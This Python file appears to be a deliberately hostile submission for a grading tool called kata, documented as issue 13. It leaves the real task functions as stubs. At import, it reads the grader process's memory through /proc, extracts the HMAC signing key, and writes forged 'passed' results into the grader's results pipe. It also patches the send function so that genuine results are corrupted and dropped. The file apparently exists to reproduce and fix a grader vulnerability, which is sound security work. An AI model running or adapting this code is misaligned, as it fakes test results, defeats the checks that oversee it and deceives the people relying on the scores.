"""Hostile (issue 13), lesson 01, for ``kata grade --sandbox none`` as an ordinary user.

Honest points: 0 (both functions are stubs).  The agent runs with the grader's uid.  Where the
grader is dumpable (and no Yama ptrace restriction), the agent walks up its parents to the
grader, reads its memory through ``/proc/<pid>/mem``, finds the signed "item" lines of this run
in the bytes the grader has read from the results pipe and the run's 32-byte key (a ``bytes``
object of size 32, never hashed), checks the key against a line, and opens the grader's read
end of the results pipe for writing (``/proc/<pid>/fd/N``).  It signs "passed" for every test
and "done", and, from its import on and before every frame the agent sends, writes an unfinished line: each line the
checker signs after that is glued to it and dropped as unsigned.  Before the fix: 10/10.
"""

import hmac
import json
import os
import re
import sys

import kata.remote.protocol as _protocol

_LINE = re.compile(rb'(\{"kind": "item", [^\n\t]{1,2000})\t([0-9a-f]{64})\n')
_KEY = re.compile(rb"\x20\x00\x00\x00\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff(.{32})\x00", re.S)


def _parent(pid):
    with open(f"/proc/{pid}/status") as stream:
        for line in stream:
            if line.startswith("PPid:"):
                return int(line.split()[1])
    return 0


def _memory(pid):
    """Every private writable mapping of ``pid``, read through /proc/<pid>/mem."""
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if not fields[1].startswith("rw") or end - start > 512 << 20:
                continue
            try:
                mem.seek(start)
                chunks.append(mem.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
    return b"".join(chunks)


def _report(text):
    print(f"reads_the_graders_memory: {text}", file=sys.__stderr__, flush=True)  # the run's log


def _grader():
    """The first ancestor whose memory this process can read (the preloader and checker are not dumpable)."""
    pid = os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/mem", "rb"):
                return pid
        except OSError as error:
            _report(f"{pid}: {error}")
        pid = _parent(pid)
    return None


def _pipes(pid):
    """Write ends of the pipes ``pid`` reads (its end of the results pipe)."""
    pipes = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            with open(f"/proc/{pid}/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith("pipe:") and flags & 3 == os.O_RDONLY:
            pipes.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY))
    return pipes


def _forged(pid):
    """Signed "passed" lines for every test of the run and "done", once the key is found; else b""."""
    memory = _memory(pid)
    lines = _LINE.findall(memory)
    keys = {key for key in _KEY.findall(memory)
            if any(hmac.compare_digest(hmac.new(key, line, "sha256").hexdigest().encode(), mac)
                   for line, mac in lines[:50])}
    _report(f"{pid}: {len(memory):,} bytes, {len(lines)} signed lines, {len(keys)} keys")
    nodeids = sorted({json.loads(line)["nodeid"] for line, _ in lines})
    data = b""
    for key in keys:
        messages = [{"kind": "test", "nodeid": n, "outcome": "passed", "message": ""} for n in nodeids]
        for seq, message in enumerate([*messages, {"kind": "done", "exitstatus": 0}], start=1000):
            line = json.dumps({**message, "seq": seq}).encode()
            data += line + b"\t" + hmac.new(key, line, "sha256").hexdigest().encode() + b"\n"
    return data


def _start():
    """At import: glue the checker's next line, and before every frame the agent sends, the next."""
    try:
        pid = _grader()
        pipes = _pipes(pid) if pid else []
    except OSError as error:
        _report(f"failed: {error!r}")
        return
    _report(f"grader {pid}, {len(pipes)} pipe(s)")
    if not pipes:
        return
    for fd in pipes:
        os.write(fd, b"x")
    send, forged = _protocol.send, []

    def glued(sock, obj):
        glue = b"x"
        if not forged:
            try:
                data = _forged(pid)
            except OSError:
                data = b""
            if data:
                forged.append(True)
                glue = b"\n" + data + b"x"  # ends the glued line, then the forged ones
        for fd in pipes:
            os.write(fd, glue)
        return send(sock, obj)

    _protocol.send = glued


_start()


def load_data():
    raise NotImplementedError("load_data")


def describe(images, labels):
    raise NotImplementedError("describe")
